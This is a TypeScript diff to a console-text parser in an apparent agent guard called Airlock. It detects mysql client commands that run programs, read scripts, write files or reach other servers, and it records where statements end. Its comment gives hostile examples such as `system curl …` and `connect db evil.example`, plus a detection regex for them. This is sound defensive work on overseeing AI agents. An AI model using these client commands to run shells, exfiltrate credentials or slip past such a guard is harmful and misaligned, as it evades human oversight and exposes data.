@@ -14,11 +14,31 @@ const sqliteShowing = /^(tables|schema|indexes|indices|headers|header|mode|help|
 /** Console commands that only show the catalog or change the display: they run no SQL of the agent's and touch no file or program. */
 const showing = /^(d[a-zA-Z+]*|l\+?|list|x|timing|conninfo|q|quit|\?|h|help|encoding|pset|a|t|H|f|C|T|z|sf\+?|sv\+?)$/;
 
+/**
+ * The mysql client's named commands that run a program or a file, write a file, change how later
+ * text is split or read, or reach another server (sixteenth pass: `websocketd mysql`): `system
+ * curl …` runs a shell, `source /tmp/x.sql` a script, `pager`/`tee`/`edit` a program or a file,
+ * `connect db evil.example` the same credentials elsewhere, `charset sjis` the encoding in which a
+ * backslash ends a character, `delimiter //` the end of a statement. The client takes one at the
+ * start of a line while no statement is pending, its name in any letter case, a `;` in the line
+ * or not (checked with MariaDB's client 10.11). The others (`status`, `warnings`, `go`, `use` …)
+ * run nothing Airlock does not read.
+ */
+const mysqlCommands = new Set(['system', 'source', 'pager', 'tee', 'edit', 'connect', 'charset', 'delimiter']);
+
+/** Whether a text may hold one of the mysql client's named commands (mysqlCommands) at a line start: a linear test. */
+export const mysqlCommandLine = /(?:^|\n)[ \t]*(?:system|source|pager|tee|edit|connect|charset|delimiter)(?=[ \t\r\n]|$)/i;
+
+/** At most this many statement ends are reported (ConsoleRead.ends): past it the rest read as one. */
+const MAX_ENDS = 1000;
+
 export interface ConsoleRead {
   /** The text after the last statement the console would have sent: what it still holds. */
   tail: string;
   /** The first console command that runs something Airlock does not read, if any (`\gexec`, `\!`). */
   command?: string;
+  /** Where each statement the console sends ends (just past its `;`), in order. */
+  ends: number[];
 }
 
 export function consoleRead(text: string): ConsoleRead {
@@ -27,8 +47,18 @@ export function consoleRead(text: string): ConsoleRead {
   let depth = 0;
   let end = 0; // where the text after the last sent statement starts
   let command: string | undefined;
+  const ends: number[] = [];
+  // Nothing but blanks and comments since the last statement ended (its commands' place).
+  let blank = true;
   while (i < n) {
     const c = text[i]!;
+    if ((i === 0 || text[i - 1] === '\n') && command === undefined && blank) {
+      // A line while no statement is pending: the mysql client reads its named commands there.
+      const lineEnd = text.indexOf('\n', i);
+      const line = text.slice(i, lineEnd < 0 ? n : lineEnd);
+      const name = /^[ \t]*([A-Za-z]+)(?=[ \t\r]|$)/.exec(line.slice(0, 40))?.[1]?.toLowerCase();
+      if (name !== undefined && mysqlCommands.has(name)) command = name;
+    }
     if (c === '-' && text[i + 1] === '-') {
       const e = text.indexOf('\n', i);
       i = e < 0 ? n : e + 1;
@@ -41,6 +71,7 @@ export function consoleRead(text: string): ConsoleRead {
         else i++;
       }
     } else if (c === "'" || c === '"') {
+      blank = false;
       const escapes = c === "'" && (text[i - 1] === 'E' || text[i - 1] === 'e') && !/[A-Za-z0-9_$]/.test(text[i - 2] ?? '');
       i++;
       while (i < n) {
@@ -52,6 +83,7 @@ export function consoleRead(text: string): ConsoleRead {
       }
       i++;
     } else if (c === '$' && !/[A-Za-z0-9_$]/.test(text[i - 1] ?? '')) {
+      blank = false;
       const m = /^\$([A-Za-z_][A-Za-z0-9_]*)?\$/.exec(text.slice(i, i + 66));
       if (!m) {
         i++;
@@ -74,9 +106,14 @@ export function consoleRead(text: string): ConsoleRead {
     } else {
       if (c === '(') depth++;
       else if (c === ')') depth = Math.max(0, depth - 1);
-      else if (c === ';' && depth === 0) end = i + 1;
+      else if (c === ';' && depth === 0) {
+        end = i + 1;
+        if (ends.length < MAX_ENDS) ends.push(end);
+      }
+      if (c === ';' && depth === 0) blank = true;
+      else if (c !== ' ' && c !== '\t' && c !== '\n' && c !== '\r') blank = false;
       i++;
     }
   }
-  return command === undefined ? { tail: text.slice(end) } : { tail: text.slice(end), command };
+  return command === undefined ? { tail: text.slice(end), ends } : { tail: text.slice(end), command, ends };
 }
